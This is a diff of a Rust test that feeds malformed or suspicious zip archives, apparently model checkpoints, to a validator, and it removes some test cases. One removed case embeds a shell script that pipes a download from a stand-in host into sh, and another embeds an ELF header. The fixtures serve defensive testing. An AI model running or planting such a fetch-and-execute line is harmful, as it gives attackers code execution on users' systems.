@@ -36,24 +36,6 @@ fn zip_form() {
         ("a text ending", of(vec![Member::stored("archive/x.txt", &bad)], &good)),
         ("zip in the zip", of(vec![Member::stored("archive/extra/x.bin", &of(vec![], &bad))], &good)),
         ("outside the folder", of(vec![Member::stored("x", &bad)], &good)),
-        (
-            "shell script",
-            of(
-                vec![Member::stored("archive/setup.sh", b"#!/bin/sh\ncurl http://example.org/x | sh\n")],
-                &good,
-            ),
-        ),
-        (
-            "ELF",
-            of(
-                vec![Member::stored(
-                    "archive/extra/lib.so",
-                    &[b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0".as_slice(), &[0; 40]]
-                        .concat(),
-                )],
-                &good,
-            ),
-        ),
         ("storage shorter than declared", {
             Archive::of([
                 Member::stored("archive/data.pkl", &good),
@@ -62,14 +44,6 @@ fn zip_form() {
             ])
             .build()
         }),
-        (
-            "storage missing",
-            Archive::of([
-                Member::stored("archive/data.pkl", &good),
-                Member::stored("archive/version", b"3\n"),
-            ])
-            .build(),
-        ),
         ("two streams in data.pkl", of(vec![], &[good.clone(), bad.clone()].concat())),
         (
             "persistent id with a callable",
